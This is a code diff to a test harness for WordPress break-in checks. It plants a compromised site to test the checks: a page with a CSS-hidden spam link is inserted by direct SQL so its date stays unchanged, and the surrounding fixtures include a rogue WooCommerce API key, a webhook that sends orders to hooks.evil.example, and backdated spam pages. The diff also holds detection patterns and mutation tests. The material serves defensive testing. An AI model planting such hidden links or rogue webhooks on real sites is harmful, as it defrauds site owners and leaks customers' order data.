@@ -155,6 +155,11 @@ const ESCAPED_YML = {shown: 'wp-cli^[[2K.yml', written: String.raw`wp-cli\e[2K.y
 const SHOP_KEY = {description: 'Shipping sync', permissions: 'read_write'};
 const SHOP_WEBHOOK = {name: 'Order sync', url: 'https://hooks.evil.example/orders'};
 /** A spam page with no script in it (review r54 LOW 7): only the query of recent changes finds it, first. */
+/** A link hidden by CSS, added to an old page straight in the table, so its change date stays (review r79b M1). */
+const HIDDEN_SPAM = {
+  page: 'Our team',
+  link: '<div style="position:absolute;left:-9999px"><a href="https://pills.example/">pills</a></div>',
+};
 const SPAM_PAGE = 'Cheap watches';
 /** A spam page given an old date, which WordPress also gives it as its change date (review r63b M3). */
 const BACKDATED_PAGE = 'Cheap pills';
@@ -301,6 +306,10 @@ INSERT INTO wp_woocommerce_api_keys (user_id, description, permissions, consumer
   VALUES (1, '${SHOP_KEY.description}', '${SHOP_KEY.permissions}', SHA2('ck_planted', 256), 'cs_planted', 'planted');
 INSERT INTO wp_wc_webhooks (status, name, user_id, delivery_url, secret, topic, api_version)
   VALUES ('active', '${SHOP_WEBHOOK.name}', 1, '${SHOP_WEBHOOK.url}', 'planted', 'order.created', 3);
+SQL
+wp --path=${SITE.root} --skip-plugins --skip-themes post create --post_type=page --post_status=publish --post_title='${HIDDEN_SPAM.page}' --post_date='2020-05-01 09:00:00' --post_content='Meet us.' --porcelain >/dev/null
+wp --path=${SITE.root} db query <<'SQL'
+UPDATE wp_posts SET post_content = CONCAT(post_content, '${HIDDEN_SPAM.link}') WHERE post_title = '${HIDDEN_SPAM.page}';
 SQL
 wp --path=${SITE.root} --skip-plugins --skip-themes post create --post_type=page --post_status=publish --post_title='${SPAM_PAGE}' --post_content='<a href="https://spam.example/">watches</a>' --porcelain >/dev/null
 wp --path=${SITE.root} --skip-plugins --skip-themes post create --post_type=page --post_status=publish --post_title='${BACKDATED_PAGE}' --post_date='2019-03-01 10:00:00' --post_content='pills' --porcelain >/dev/null
@@ -842,6 +851,12 @@ async function checksAfterBreakIn(ctx: RecipeContext) {
       `the searches also find a meta refresh in the option ${INJECTED_WIDER.refreshOption.name}, atob in post ${INJECTED_WIDER.atobMeta.post}'s field ${INJECTED_WIDER.atobMeta.key} and document.write in the option ${INJECTED_WIDER.writeOption.name}, none of which holds a script tag, handler or eval`,
       () => `the widened searches for injected code missed ${missedWider.map(([where]) => where).join(', ')}:\n${loaded}`,
     );
+    ctx.expect(
+      new RegExp(`^\\d+\\tpage\\tpublish\\t${HIDDEN_SPAM.page}$`, 'm').test(loaded),
+      LOADING_CHECKS,
+      `the search for links hidden by CSS lists the page "${HIDDEN_SPAM.page}", changed in the table with no script and its date kept`,
+      () => `the checks that load WordPress did not list the page "${HIDDEN_SPAM.page}" with a link hidden by CSS:\n${loaded}`,
+    );
     const missedDisguised = [
       [`the handler after a quote in ${INJECTED_DISGUISED.quotedHandler.name}`, `^\\d+\\t${INJECTED_DISGUISED.quotedHandler.name}$`],
       [
@@ -1205,6 +1220,12 @@ export const wordpressSecurityRecipe: Recipe = {
       ref: LOADING_CHECKS,
       edit: (text) => text.replace('|<[^>]{0,2000}[[:space:]/]on[a-z]+[[:space:]]*=', ''),
       expect: /did not find the script injected into post 1, _elementor_data, wpc_footer_code and wpc_header_code/,
+    },
+    {
+      what: 'leave out the search for links hidden by CSS (review r79b M1)',
+      ref: LOADING_CHECKS,
+      edit: replace(/^# Links hidden by CSS.*\n.*\n.*\n/m, ''),
+      expect: /did not list the page "Our team" with a link hidden by CSS/,
     },
     {
       what: 'search for handlers after a space or a slash only (the pattern before review r76b F1)',
